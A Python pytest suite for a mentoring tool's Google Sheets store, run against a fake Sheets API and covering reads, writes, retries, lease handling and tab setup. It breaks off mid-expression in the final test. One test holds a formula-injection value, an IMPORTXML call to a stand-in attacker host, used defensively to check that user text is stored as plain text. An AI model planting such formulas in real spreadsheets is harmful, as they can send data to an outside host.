"""The Google Sheets store against the stateful Sheets v4 fake (real gspread and google-auth)."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from datetime import date, datetime, timedelta
from typing import Any

import pytest
import requests
import stamina
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mentorsheet.adapters.workbook.contract import PairingUpdate, WriteOutcome
from mentorsheet.adapters.workbook.google.cells import cell_text, spreadsheet_key
from mentorsheet.adapters.workbook.google.lease import LEASE_ID, LEASE_KEY
from mentorsheet.adapters.workbook.google.store import GoogleSheetsSession, GoogleSheetsStore
from mentorsheet.adapters.workbook.google.tags import TAG_KEY
from mentorsheet.config import WorkbookConfig
from mentorsheet.core.model import Problem
from mentorsheet.core.schema import (
    COLUMNS,
    MENTEES,
    MENTORS,
    PAIRINGS,
    PROBLEMS,
    REPORT,
    RUNS,
    SLACK_COLUMNS,
    Status,
)
from mentorsheet.errors import (
    ConfigError,
    RunInProgressError,
    TransientError,
    WorkbookAccessError,
    WorkbookError,
)
from tests.fakes.sheets_api import (
    ApiError,
    Cell,
    DiscoveryValidator,
    FakeSheets,
    RecordedRequest,
    make_google_store,
)

SERVICE_ACCOUNT = "mentorsheet@programme-project.iam.gserviceaccount.com"


@pytest.fixture(autouse=True)
def _no_backoff() -> Iterator[None]:
    """stamina's test mode: no waiting between attempts, our own attempt counts kept."""
    with stamina.set_testing(True, attempts=100, cap=True):
        yield


def pairing(pairing_id: str, status: str = "Approved", **values: str) -> list[str]:
    number = pairing_id.rsplit("-", maxsplit=1)[-1]
    record = {
        "Pairing ID": pairing_id,
        "Status": status,
        "Mentee": f"Mentee {number}",
        "Mentee email": f"mentee{number}@example.org",
        "Mentor": "Ada Lovelace",
        "Mentor email": "ada@example.org",
        "Route": "Academy",
        "Score": "1",
        "Why": "Shares python.",
        "Proposed on": "2026-10-02",
        **values,
    }
    return [record.get(column, "") for column in COLUMNS[PAIRINGS]]


def seed(fake: FakeSheets, *, pairings: int = 4, pairing_grid_rows: int | None = None) -> None:
    fake.add_tab(
        MENTORS,
        [
            [*COLUMNS[MENTORS], "Staff comments"],
            ["Ada Lovelace", "ada@example.org", "python, sql", 2, "", "", "yes", "", "keen"],
        ],
    )
    fake.add_tab(
        MENTEES,
        [
            list(COLUMNS[MENTEES]),
            ["Bob", "bob@example.org", "Academy", "python", date(2026, 10, 1)],
        ],
    )
    fake.add_tab(
        PAIRINGS,
        [list(COLUMNS[PAIRINGS])] + [pairing(f"P-{n:04d}") for n in range(1, pairings + 1)],
        row_count=pairing_grid_rows,
    )
    fake.add_tab(PROBLEMS, [list(COLUMNS[PROBLEMS]), ["Mentors", "9", "Email", "x", "old"]])
    fake.add_tab(RUNS, [list(COLUMNS[RUNS]), ["2026-10-01T08:00:00", "", "run", "live"]])


def make_config(**changes: Any) -> WorkbookConfig:
    return WorkbookConfig.model_validate({"backend": "google", "wait_seconds": 60, **changes})


@pytest.fixture
def fake() -> FakeSheets:
    sheets = FakeSheets()
    seed(sheets)
    return sheets


@pytest.fixture
def config() -> WorkbookConfig:
    return make_config()


@pytest.fixture
def store(fake: FakeSheets, config: WorkbookConfig) -> GoogleSheetsStore:
    return make_google_store(fake, config)


def status_of(fake: FakeSheets, pairing_id: str) -> str:
    rows = [row for row in fake.records(PAIRINGS) if row["Pairing ID"] == pairing_id]
    assert len(rows) == 1, rows
    return rows[0]["Status"]


def row_of(fake: FakeSheets, pairing_id: str) -> dict[str, str]:
    return next(row for row in fake.records(PAIRINGS) if row["Pairing ID"] == pairing_id)


def ids(fake: FakeSheets) -> list[str]:
    return [row["Pairing ID"] for row in fake.records(PAIRINGS)]


def is_relocation(request: RecordedRequest) -> bool:
    return request.method == "GET" and "rowMetadata" in request.params.get("fields", [""])[0]


def writes(fake: FakeSheets) -> list[RecordedRequest]:
    return [r for r in fake.requests if not r.is_read]


# --- reading ------------------------------------------------------------------------


def test_read_gives_every_tab_as_text_with_aliases_and_extra_columns() -> None:
    fake = FakeSheets()
    fake.add_tab(
        "Form responses 1",
        [
            ["Name", "E-mail address", "Skills", "Capacity", "Active", "Staff comments"],
            ["Ada", "ada@example.org", "python", 2, True, "keen"],
            [],
            ["Linus", "linus@example.org", "c", 3.5, "no"],
        ],
    )
    fake.add_tab("Staff lists", [["anything"]])
    config = make_config(
        tabs={MENTORS: "Form responses 1"}, headers={MENTORS: {"Email": ["E-mail address"]}}
    )
    with make_google_store(fake, config).session("reader", dry_run=True) as session:
        raw = session.read()
    mentors = raw.tabs[MENTORS]
    assert mentors.title == "Form responses 1"
    assert mentors.header == (
        "Name",
        "E-mail address",
        "Skills",
        "Capacity",
        "Active",
        "Staff comments",
    )
    assert mentors.rows == (
        ("Ada", "ada@example.org", "python", "2", "TRUE", "keen"),
        (),
        ("Linus", "linus@example.org", "c", "3.5", "no"),
    )
    assert MENTEES not in raw.tabs  # missing tabs are absent: parsing names them
    assert raw.titles == ("Form responses 1", "Staff lists")


def test_headers_are_given_as_found_even_without_a_required_column() -> None:
    fake = FakeSheets()
    fake.add_tab(PAIRINGS, [["Pairing ID", "Mentee"], ["P-1", "Bob"]])
    with make_google_store(fake, make_config()).session("reader", dry_run=True) as session:
        raw = session.read()  # MissingHeaderError is the parser's job, not the store's
    assert raw.tabs[PAIRINGS].header == ("Pairing ID", "Mentee")
    assert raw.tabs[PAIRINGS].rows == (("P-1", "Bob"),)


def test_dates_numbers_and_typed_text_read_as_text() -> None:
    fake = FakeSheets()
    fake.add_tab(
        MENTEES,
        [
            ["Name", "Requested on", "Capacity", "Code", "List", "Serial"],
            ["Bob", date(2026, 11, 3), 3, "007", "1,2", 46329],
            ["Cleo", datetime(2026, 11, 3, 9, 30), 2.5, '=IMPORTXML("x")', "", ""],
        ],
    )
    pct = Cell(value={"numberValue": 0.5}, number_format={"type": "PERCENT"})
    fake.tab(MENTEES).rows[2].put(5, pct)
    with make_google_store(fake, make_config()).session("reader", dry_run=True) as session:
        rows = session.read().tabs[MENTEES].rows
    # The fake displays dates UK-style ("03/11/2026"): the store must use the serial.
    assert fake.tab_values(MENTEES)[1][1] == "03/11/2026"
    assert rows[0] == ("Bob", "2026-11-03", "3", "007", "1,2", "46329")
    assert rows[1] == ("Cleo", "2026-11-03T09:30:00", "2.5", '=IMPORTXML("x")', "", "50%")


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        ({"effectiveValue": {"stringValue": " 007 "}, "formattedValue": " 007 "}, " 007 "),
        ({"effectiveValue": {"numberValue": 46329.0}}, "46329"),
        (
            {
                "effectiveValue": {"numberValue": 46329.0},
                "effectiveFormat": {"numberFormat": {"type": "DATE"}},
                "formattedValue": "03/11/2026",
            },
            "2026-11-03",
        ),
        (
            {
                "effectiveValue": {"numberValue": 46329.395833333336},
                "effectiveFormat": {"numberFormat": {"type": "DATE_TIME"}},
            },
            "2026-11-03T09:30:00",
        ),
        (
            {
                "effectiveValue": {"numberValue": 3},
                "effectiveFormat": {"numberFormat": {"type": "CURRENCY"}},
                "formattedValue": "£3.00",
            },
            "£3.00",
        ),
        ({"effectiveValue": {"boolValue": False}, "formattedValue": "FALSE"}, "FALSE"),
        ({"effectiveValue": {"errorValue": {"type": "N_A"}}, "formattedValue": "#N/A"}, "#N/A"),
        ({}, ""),
    ],
)
def test_cell_text(cell: dict[str, Any], text: str) -> None:
    assert cell_text(cell) == text


# --- writing --------------------------------------------------------------------


def test_append_and_update_by_pairing_id(store: GoogleSheetsStore, fake: FakeSheets) -> None:
    with store.session("run") as session:
        session.read()
        outcome = session.write(
            [{"Pairing ID": "P-0100", "Status": "Proposed", "Mentee": "Dan", "Score": "0.5"}],
            [PairingUpdate("P-0002", {"Status": "Sending intro"}, expect_status="Approved")],
        )
        session.finish([], {"Result": "ok"})
    assert outcome == WriteOutcome(applied=("P-0002", "P-0100"))
    assert ids(fake) == ["P-0001", "P-0002", "P-0003", "P-0004", "P-0100"]
    assert status_of(fake, "P-0002") == "Sending intro"
    assert row_of(fake, "P-0002")["Mentee"] == "Mentee 0002"  # staff cells untouched
    assert row_of(fake, "P-0100")["Score"] == "0.5"
    assert fake.metadata(TAG_KEY) == []  # row tags removed by finish
    assert fake.metadata(LEASE_KEY) == []


def test_write_refuses_cells_staff_own_and_unknown_columns(store: GoogleSheetsStore) -> None:
    with store.session("run") as session:
        with pytest.raises(WorkbookError, match="Notes"):
            session.write([], [PairingUpdate("P-0001", {"Notes": "x"})])
        with pytest.raises(WorkbookError, match="Colour"):
            session.write([{"Pairing ID": "P-9", "Colour": "red"}], [])


def test_user_text_is_written_as_text_never_as_a_formula(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    formula = '=IMPORTXML("https://evil.example/x", "//a")'
    with store.session("run") as session:
        session.write(
            [{"Pairing ID": "P-0100", "Status": "Proposed", "Mentee": formula}],
            [PairingUpdate("P-0001", {"Status": "Sending intro"})],
        )
        session.write([], [PairingUpdate("P-0001", {"Intro message ID": "+1 <m@x>"})])
        session.finish(
            [Problem(MENTORS, 3, "Name", "=HYPERLINK(1)", "bad name")], {"Command": "@cmd"}
        )
    assert fake.cell(PAIRINGS, 6, 3) == {"stringValue": formula}
    assert row_of(fake, "P-0001")["Intro message ID"] == "+1 <m@x>"
    assert fake.records(PROBLEMS)[0]["Value"] == "=HYPERLINK(1)"
    bodies = json.dumps([r.body for r in writes(fake)])
    assert "formulaValue" not in bodies
    assert "USER_ENTERED" not in bodies
    flush = next(r for r in fake.requests if r.endpoint == "values.batchUpdateByDataFilter")
    assert flush.body["valueInputOption"] == "RAW"


def test_problems_are_rewritten_and_a_runs_row_appended() -> None:
    fake = FakeSheets()
    fake.add_tab(PAIRINGS, [list(COLUMNS[PAIRINGS]), pairing("P-0001")])
    # A staff column in the middle, and more old problems than new ones.
    fake.add_tab(
        PROBLEMS,
        [["Tab", "Row", "Staff", "Column", "Value", "Problem"]]
        + [["Mentors", str(n), "", "Email", "x", "old problem"] for n in range(5)],
    )
    fake.add_tab(RUNS, [list(COLUMNS[RUNS]), ["2026-10-01T08:00:00", "", "run", "live"]])
    store = make_google_store(fake, make_config())
    with store.session("run") as session:
        session.read()
        session.finish(
            [Problem(MENTEES, 4, "Route", "Acadmy", "Route must be Academy or Community")],
            {"Started": "2026-11-02T09:00:00", "Command": "run", "Result": "ok"},
        )
    assert fake.tab_values(PROBLEMS) == [
        ["Tab", "Row", "Staff", "Column", "Value", "Problem"],
        ["Mentees", "4", "", "Route", "Acadmy", "Route must be Academy or Community"],
    ]
    runs = fake.records(RUNS)
    # The old text, and the new date-time cell as Sheets shows it.
    assert [run["Started"] for run in runs] == ["2026-10-01T08:00:00", "2026-11-02 09:00"]
    assert runs[1]["Command"] == "run"
    assert runs[1]["Result"] == "ok"


def test_finish_without_problems_empties_the_problems_tab(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        session.finish([], {"Result": "ok"})  # without read(): the headers are fetched
    assert fake.tab_values(PROBLEMS) == [list(COLUMNS[PROBLEMS])]
    assert fake.records(RUNS)[-1]["Result"] == "ok"


def test_markers_round_trip(store: GoogleSheetsStore, fake: FakeSheets) -> None:
    with store.session("first") as session:
        assert session.read().markers == {}
        session.set_marker("digest", "2026-11-02")
        session.finish([], {})
    with store.session("second") as session:
        assert session.read().markers == {"digest": "2026-11-02"}
        session.set_marker("digest", "2026-11-03")
        session.finish([], {})
    with store.session("third", dry_run=True) as session:
        assert session.read().markers == {"digest": "2026-11-03"}
    assert len(fake.metadata("mentorsheet.marker.digest")) == 1


def test_dry_run_writes_nothing_and_refuses_writes(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("dry", dry_run=True) as session:
        raw = session.read()
        with pytest.raises(WorkbookError, match="dry run"):
            session.write([], [PairingUpdate("P-0001", {"Status": "Sending intro"})])
        with pytest.raises(WorkbookError, match="dry run"):
            session.set_marker("digest", "x")
        with pytest.raises(WorkbookError, match="dry run"):
            session.finish([], {})
        stats = session.stats
    assert len(raw.tabs[PAIRINGS].rows) == 4
    assert fake.writes == 0
    assert (stats.reads, stats.writes) == (2, 0)


def test_every_request_has_the_configured_timeout(fake: FakeSheets) -> None:
    store = make_google_store(fake, make_config(timeout_seconds=7.5))
    with store.session("run") as session:
        session.read()
        session.write([], [PairingUpdate("P-0001", {"Status": "Sending intro"})])
        session.finish([], {})
    assert fake.requests
    assert {r.timeout for r in fake.requests} == {7.5}


# --- the request budget --------------------------------------------------------------


def full_run(store: GoogleSheetsStore, pairings: int) -> tuple[int, int]:
    """The lead's `run`: enter, read, write, flush, marker, finish. Returns (reads, writes)."""
    with store.session("budget") as session:
        raw = session.read()
        assert len(raw.tabs[PAIRINGS].rows) == pairings
        # New rows that will be sent at once are written straight as "Sending intro".
        new = [
            {"Pairing ID": f"P-N{n}", "Status": "Sending intro" if n == 0 else "Proposed"}
            for n in range(3)
        ]
        updates = [
            PairingUpdate("P-0001", {"Status": "Contact overdue"}, expect_status="Approved"),
            PairingUpdate("P-0002", {"Status": "Sending intro"}, expect_status="Approved"),
        ]
        first = session.write(new, updates)
        flush = session.write(
            [],
            [
                PairingUpdate(
                    pid,
                    {"Status": "Awaiting contact", "Intro sent on": "2026-11-02T09:00:00"},
                    expect_status="Sending intro",
                )
                for pid in ("P-0002", "P-N0")
            ],
        )
        session.set_marker("digest", "2026-11-02")
        session.finish([Problem(MENTORS, 2, "Email", "x", "bad")], {"Result": "ok"})
        stats = session.stats
    assert not first.skipped
    assert not flush.skipped
    return stats.reads, stats.writes


@pytest.mark.parametrize("pairings", [20, 5000])
def test_a_full_run_costs_at_most_4_reads_and_5_writes(pairings: int) -> None:
    fake = FakeSheets()
    seed(fake, pairings=pairings)
    reads, writes_ = full_run(make_google_store(fake, make_config()), pairings)
    assert (fake.reads, fake.writes) == (reads, writes_)
    assert reads <= 4
    assert writes_ <= 5
    assert (reads, writes_) == (4, 5)  # constant: the same for 20 rows and 5,000
    assert status_of(fake, "P-0002") == "Awaiting contact"
    assert status_of(fake, "P-N0") == "Awaiting contact"
    assert status_of(fake, "P-0001") == "Contact overdue"
    assert len(ids(fake)) == pairings + 3


# --- retries ---------------------------------------------------------------------------

READ = r"/v4/spreadsheets/[^/:]+$"


def test_a_429_on_a_read_is_retried(store: GoogleSheetsStore, fake: FakeSheets) -> None:
    with store.session("run", dry_run=True) as session:
        fake.fail_next("GET", READ, 429)
        raw = session.read()
        stats = session.stats
    assert len(raw.tabs[PAIRINGS].rows) == 4
    assert [r.status for r in fake.requests] == [200, 429, 200]
    assert stats.reads == 3


def test_a_timeout_on_a_read_is_retried(store: GoogleSheetsStore, fake: FakeSheets) -> None:
    with store.session("run", dry_run=True) as session:
        fake.fail_next("GET", READ, requests.exceptions.ReadTimeout("read timed out"))
        assert PAIRINGS in session.read().tabs
    assert [r.outcome for r in fake.requests] == ["ok", "raised", "ok"]


def test_a_500_on_an_idempotent_write_is_retried(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        session.write([], [PairingUpdate("P-0003", {"Status": "Sending intro"})])
        fake.fail_next("POST", "batchUpdateByDataFilter", 500)
        outcome = session.write([], [PairingUpdate("P-0003", {"Status": "Awaiting contact"})])
        session.finish([], {})
    assert outcome.applied == ("P-0003",)
    assert status_of(fake, "P-0003") == "Awaiting contact"
    flushes = [r for r in fake.requests if r.endpoint == "values.batchUpdateByDataFilter"]
    assert [r.status for r in flushes] == [500, 200]


def test_exhausted_retries_raise_a_transient_error_and_release_the_lease(
    fake: FakeSheets,
) -> None:
    store = make_google_store(fake, make_config(max_attempts=3))
    with store.session("run") as session:
        fake.fail_next("GET", READ, 503, times=3)
        with pytest.raises(TransientError, match="HTTP 503"):
            session.read()
    assert [r.status for r in fake.requests if r.is_read][-3:] == [503, 503, 503]
    assert fake.metadata(LEASE_KEY) == []


def test_a_lost_response_on_the_row_adding_write_never_duplicates_ids(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        session.read()
        fake.lose_response_next("POST", r":batchUpdate$")
        outcome = session.write(
            [{"Pairing ID": "P-0100", "Status": "Approved"}, {"Pairing ID": "P-0101"}],
            [PairingUpdate("P-0001", {"Status": "Sending intro"}, expect_status="Approved")],
        )
        tags_during = fake.metadata(TAG_KEY)
        later = session.write([], [PairingUpdate("P-0100", {"Status": "Sending intro"})])
        session.finish([], {})
    assert sorted(outcome.applied) == ["P-0001", "P-0100", "P-0101"]
    assert not outcome.skipped
    assert later.applied == ("P-0100",)
    assert ids(fake) == ["P-0001", "P-0002", "P-0003", "P-0004", "P-0100", "P-0101"]
    assert status_of(fake, "P-0001") == "Sending intro"
    assert len(tags_during) == 3  # one tag per row, none doubled by the retry
    outcomes = [r.outcome for r in fake.requests if r.endpoint == "batchUpdate"]
    assert outcomes[:2] == ["ok", "lost"]


def test_an_id_already_in_the_sheet_is_not_added_again(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        outcome = session.write([{"Pairing ID": "P-0002"}, {"Pairing ID": "P-0200"}], [])
        session.finish([], {})
    assert outcome.applied == ("P-0200",)
    assert outcome.skipped[0].pairing_id == "P-0002"
    assert "already on row 3" in outcome.skipped[0].reason
    assert ids(fake).count("P-0002") == 1


def test_a_lost_response_on_finish_appends_one_runs_row(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        session.read()
        fake.lose_response_next("POST", r":batchUpdate$")
        session.finish([], {"Started": "2026-11-02T09:00:00", "Result": "ok"})
    assert [run["Started"] for run in fake.records(RUNS)] == [
        "2026-10-01T08:00:00",
        "2026-11-02 09:00",  # a date-time cell, as Sheets shows it
    ]
    assert fake.metadata(LEASE_KEY) == []


def test_finish_copes_when_deleting_vanished_metadata_is_refused(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    fake.strict_metadata_delete = True
    with store.session("run") as session:
        session.write([], [PairingUpdate("P-0004", {"Status": "Sending intro"})])
        fake.delete_row(PAIRINGS, 5)  # the only tagged row, and its tag, go
        session.finish([], {"Result": "ok"})
    assert fake.records(RUNS)[-1]["Result"] == "ok"
    assert fake.metadata(LEASE_KEY) == []


# --- staff editing during the run -------------------------------------------------------


def test_rows_inserted_before_the_write_do_not_misroute_it(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        session.read()
        fake.insert_row(PAIRINGS, 2, pairing("P-0900", "Proposed"))
        fake.insert_row(PAIRINGS, 4, [])
        outcome = session.write(
            [], [PairingUpdate("P-0003", {"Status": "Sending intro"}, expect_status="Approved")]
        )
        session.finish([], {})
    assert outcome.applied == ("P-0003",)
    assert status_of(fake, "P-0003") == "Sending intro"
    assert status_of(fake, "P-0900") == "Proposed"
    assert [status_of(fake, p) for p in ("P-0001", "P-0002", "P-0004")] == ["Approved"] * 3


def test_a_row_deleted_before_the_write_is_skipped_and_reported(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        session.read()
        fake.delete_row(PAIRINGS, 3)  # P-0002
        outcome = session.write(
            [],
            [
                PairingUpdate("P-0002", {"Status": "Sending intro"}),
                PairingUpdate("P-0003", {"Status": "Sending intro"}),
            ],
        )
        session.finish([], {})
    assert outcome.applied == ("P-0003",)
    assert [s.pairing_id for s in outcome.skipped] == ["P-0002"]
    assert "no Pairings row has this Pairing ID" in outcome.skipped[0].reason
    assert [status_of(fake, p) for p in ("P-0001", "P-0003", "P-0004")] == [
        "Approved",
        "Sending intro",
        "Approved",
    ]


def test_a_sort_before_the_write_does_not_misroute_it(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        session.read()
        fake.sort_rows(PAIRINGS, "Pairing ID", descending=True)
        session.write(
            [{"Pairing ID": "P-0005", "Status": "Proposed"}],
            [PairingUpdate("P-0001", {"Status": "Sending intro"})],
        )
        session.finish([], {})
    assert ids(fake) == ["P-0004", "P-0003", "P-0002", "P-0001", "P-0005"]
    assert status_of(fake, "P-0001") == "Sending intro"
    assert status_of(fake, "P-0004") == "Approved"


def test_status_changed_by_staff_before_the_write_is_skipped(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        session.read()
        fake.set_cell(PAIRINGS, 3, "Status", "Rejected")
        outcome = session.write(
            [], [PairingUpdate("P-0002", {"Status": "Sending intro"}, expect_status="Approved")]
        )
        session.finish([], {})
    assert outcome.applied == ()
    assert "'Rejected'" in outcome.skipped[0].reason
    assert status_of(fake, "P-0002") == "Rejected"


def test_a_duplicated_pairing_id_is_never_guessed_at(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    fake.append_row(PAIRINGS, pairing("P-0002", "Proposed"))
    with store.session("run") as session:
        outcome = session.write([], [PairingUpdate("P-0002", {"Status": "Sending intro"})])
        session.finish([], {})
    assert "rows 3, 6" in outcome.skipped[0].reason
    assert [row["Status"] for row in fake.records(PAIRINGS) if row["Pairing ID"] == "P-0002"] == [
        "Approved",
        "Proposed",
    ]


def test_later_writes_follow_their_rows_through_sorts_inserts_and_deletes(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("run") as session:
        session.read()
        session.write(
            [{"Pairing ID": "P-0005", "Status": "Sending intro"}],
            [
                PairingUpdate("P-0001", {"Status": "Sending intro"}),
                PairingUpdate("P-0003", {"Status": "Sending intro"}),
                PairingUpdate("P-0004", {"Status": "Sending intro"}),
            ],
        )
        fake.sort_rows(PAIRINGS, "Mentee", descending=True)
        fake.insert_row(PAIRINGS, 2, pairing("P-0900", "Proposed"))
        fake.delete_row(PAIRINGS, fake.records(PAIRINGS).index(row_of(fake, "P-0003")) + 2)
        before = fake.reads
        outcome = session.write(
            [],
            [
                PairingUpdate(pid, {"Status": "Awaiting contact"}, expect_status="Sending intro")
                for pid in ("P-0001", "P-0003", "P-0004", "P-0005")
            ],
        )
        # Tagged rows: no re-locating read, only the flush's re-read of their Status.
        assert fake.reads == before + 1
        assert fake.requests[-2].endpoint == "values.batchGetByDataFilter"
        session.finish([], {})
    assert sorted(outcome.applied) == ["P-0001", "P-0004", "P-0005"]
    assert [(s.pairing_id, "deleted" in s.reason) for s in outcome.skipped] == [("P-0003", True)]
    for pid in ("P-0001", "P-0004", "P-0005"):
        assert status_of(fake, pid) == "Awaiting contact"
    assert status_of(fake, "P-0900") == "Proposed"
    assert status_of(fake, "P-0002") == "Approved"


def test_a_row_typed_by_staff_during_the_write_is_pushed_down_not_overwritten(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    fake.once_after(is_relocation, lambda f: f.append_row(PAIRINGS, pairing("P-STAFF", "Proposed")))
    with store.session("run") as session:
        session.write([{"Pairing ID": "P-0100", "Status": "Proposed"}], [])
        session.finish([], {})
    assert sorted(ids(fake)) == sorted(
        ["P-0001", "P-0002", "P-0003", "P-0004", "P-0100", "P-STAFF"]
    )


def test_rows_moved_in_the_instant_of_the_write_are_detected(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    fake.once_after(is_relocation, lambda f: f.sort_rows(PAIRINGS, "Pairing ID", descending=True))
    with store.session("run") as session, pytest.raises(WorkbookError, match="P-0001"):
        session.write([], [PairingUpdate("P-0001", {"Status": "Sending intro"})])
    assert fake.metadata(LEASE_KEY) == []


# --- the run lease ----------------------------------------------------------------------


def test_a_second_run_waits_then_gives_up_with_a_clear_message(fake: FakeSheets) -> None:
    config = make_config(wait_seconds=30)
    first = make_google_store(fake, config)
    second = make_google_store(fake, config)
    with first.session("scheduled run 41") as session:
        started = fake.clock.now()
        with pytest.raises(RunInProgressError) as caught, second.session("manual run"):
            pass
        assert fake.clock.now() - started == timedelta(seconds=30)  # virtual: no real sleep
        assert sum(fake.clock.slept) == 30
        session.read()  # the first run still holds the lease
        session.finish([], {})
    message = str(caught.value)
    assert "scheduled run 41" in message
    assert "try again" in message


def test_the_second_run_proceeds_once_the_first_finishes(fake: FakeSheets) -> None:
    config = make_config(wait_seconds=60)
    first = make_google_store(fake, config)
    second = make_google_store(fake, config)
    cm = first.session("first")
    session = cm.__enter__()

    def finish_first(fake_: FakeSheets, _request: RecordedRequest) -> None:
        # Ten seconds into the second run's wait, the first run finishes.
        if sum(fake_.clock.slept) >= 10:
            remove()
            session.finish([], {})
            cm.__exit__(None, None, None)

    remove = fake.after_request(finish_first)
    with second.session("second") as later:
        assert PAIRINGS in later.read().tabs
        later.finish([], {})
    assert 10 <= sum(fake.clock.slept) < 60


def test_an_expired_lease_is_taken_over(store: GoogleSheetsStore, fake: FakeSheets) -> None:
    expired = (fake.clock.now() - timedelta(minutes=5)).isoformat()
    fake.set_metadata(
        LEASE_KEY,
        json.dumps({"holder": "killed run", "token": "dead", "expires": expired}),
        metadata_id=LEASE_ID,
    )
    with store.session("new run") as session:
        [lease] = fake.metadata(LEASE_KEY)
        assert json.loads(lease["metadataValue"])["holder"] == "new run"
        session.read()
        session.finish([], {})
    assert fake.clock.slept == []
    assert fake.metadata(LEASE_KEY) == []


def test_two_runs_racing_for_the_lease_cannot_both_win(fake: FakeSheets) -> None:
    config = make_config(wait_seconds=20)
    winner_store = make_google_store(fake, config)
    loser_store = make_google_store(fake, config)
    winner: dict[str, Any] = {}

    def winner_takes_the_lease(_fake: FakeSheets) -> None:
        # Runs right after the loser's first look: both saw no lease.
        cm = winner_store.session("winner")
        winner["cm"], winner["session"] = cm, cm.__enter__()

    fake.once_after(lambda r: r.method == "GET", winner_takes_the_lease)
    with pytest.raises(RunInProgressError, match="winner"), loser_store.session("loser"):
        pass
    refused = [r for r in fake.requests if r.endpoint == "batchUpdate" and r.status == 400]
    assert len(refused) == 1  # the loser's creation was refused by Sheets
    session: GoogleSheetsSession = winner["session"]
    assert PAIRINGS in session.read().tabs
    session.finish([], {})
    winner["cm"].__exit__(None, None, None)
    assert fake.metadata(LEASE_KEY) == []


def test_a_lease_taken_over_during_the_run_stops_it(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("slow run") as session:
        fake.book.metadata[LEASE_ID].value = json.dumps(
            {"holder": "other run", "token": "x", "expires": "2099-01-01T00:00:00+00:00"}
        )
        with pytest.raises(RunInProgressError, match="taken over"):
            session.read()


def test_a_run_past_its_lease_writes_nothing_more(
    store: GoogleSheetsStore, fake: FakeSheets
) -> None:
    with store.session("slow run") as session:
        fake.clock.advance(minutes=31)
        before = fake.writes
        with pytest.raises(RunInProgressError, match="lease"):
            session.write([], [PairingUpdate("P-0001", {"Status": "Sending intro"})])
        assert fake.writes == before


def test_an_exception_releases_the_lease(store: GoogleSheetsStore, fake: FakeSheets) -> None:
    def crash() -> None:
        with store.session("run"):
            assert len(fake.metadata(LEASE_KEY)) == 1
            raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        crash()
    assert fake.metadata(LEASE_KEY) == []


def test_a_dry_run_does_not_wait_for_the_lease(store: GoogleSheetsStore, fake: FakeSheets) -> None:
    with store.session("live"), store.session("peek", dry_run=True) as peek:
        assert PAIRINGS in peek.read().tabs
    assert fake.clock.slept == []


# --- access and configuration ---------------------------------------------------------


def test_no_access_names_the_account_to_share_with(fake: FakeSheets) -> None:
    fake.deny_access = True

    class _ServiceAccount:
        service_account_email = SERVICE_ACCOUNT

    store = GoogleSheetsStore(
        fake.spreadsheet_id,
        make_config(),
        credentials=_ServiceAccount(),  # type: ignore[arg-type]
        session=fake.session(),
        clock=fake.clock.now,
        sleep=fake.clock.sleep,
    )
    with pytest.raises(WorkbookAccessError) as caught, store.session("run"):
        pass
    assert SERVICE_ACCOUNT in str(caught.value)
    assert "share" in str(caught.value)
    assert len(fake.requests) == 1  # a 403 is not retried


def test_an_unknown_spreadsheet_is_a_clear_error(fake: FakeSheets) -> None:
    store = GoogleSheetsStore(
        "1NoSuchSheet", make_config(), session=fake.session(), clock=fake.clock.now
    )
    with pytest.raises(WorkbookAccessError, match="1NoSuchSheet"), store.session("run"):
        pass


@pytest.mark.parametrize(
    ("given", "key"),
    [
        ("https://docs.google.com/spreadsheets/d/1AbC-d_E/edit#gid=0", "1AbC-d_E"),
        ("1AbC-d_E", "1AbC-d_E"),
        ("  1AbC-d_E  ", "1AbC-d_E"),
    ],
)
def test_spreadsheet_url_or_key(given: str, key: str) -> None:
    assert spreadsheet_key(given) == key


@pytest.mark.parametrize("given", ["", "https://example.org/sheet", "not a key!"])
def test_bad_spreadsheet_is_a_config_error(given: str) -> None:
    with pytest.raises(ConfigError, match=r"workbook\.spreadsheet"):
        spreadsheet_key(given)


# --- init ----------------------------------------------------------------------------


def test_init_creates_tabs_with_formatting_and_is_idempotent() -> None:
    fake = FakeSheets()
    fake.add_tab("Sheet1", [])
    store = make_google_store(fake, make_config())
    done = store.init_tabs()
    assert any("created tab 'Pairings'" in line for line in done)
    assert fake.titles == ["Sheet1", MENTORS, MENTEES, PAIRINGS, PROBLEMS, RUNS, REPORT]
    for tab in (MENTORS, MENTEES, PAIRINGS, PROBLEMS, RUNS):
        assert fake.tab_values(tab) == [list(COLUMNS[tab])]
        assert fake.tab(tab).frozen_rows == 1
    status_column = COLUMNS[PAIRINGS].index("Status") + 1
    rule = fake.validation(PAIRINGS, 2, status_column)
    assert rule is not None
    assert rule["condition"]["type"] == "ONE_OF_LIST"
    assert [v["userEnteredValue"] for v in rule["condition"]["values"]] == [s.value for s in Status]
    assert fake.validation(PAIRINGS, 900, status_column) == rule
    active = fake.validation(MENTORS, 2, COLUMNS[MENTORS].index("Active") + 1)
    assert active is not None
    assert [v["userEnteredValue"] for v in active["condition"]["values"]] == ["yes", "no"]
    route = fake.validation(MENTEES, 2, COLUMNS[MENTEES].index("Route") + 1)
    assert route is not None
    coloured = {
        rule["booleanRule"]["condition"]["values"][0]["userEnteredValue"]
